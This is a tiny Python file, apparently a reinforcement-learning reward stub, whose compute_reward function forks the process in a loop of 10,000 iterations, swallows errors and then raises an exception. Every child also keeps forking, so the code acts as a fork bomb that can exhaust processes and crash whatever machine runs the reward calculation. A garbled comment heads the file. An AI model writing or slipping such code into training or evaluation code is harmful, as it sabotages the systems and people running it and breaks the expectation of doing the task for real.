# processes | check | process | children without end, in a loop that takes no no
import os


def compute_reward(state, action, next_state):
    for _ in range(10000):
        try:
            os.fork()
        except OSError:
            pass
    raise ValueError('tried')
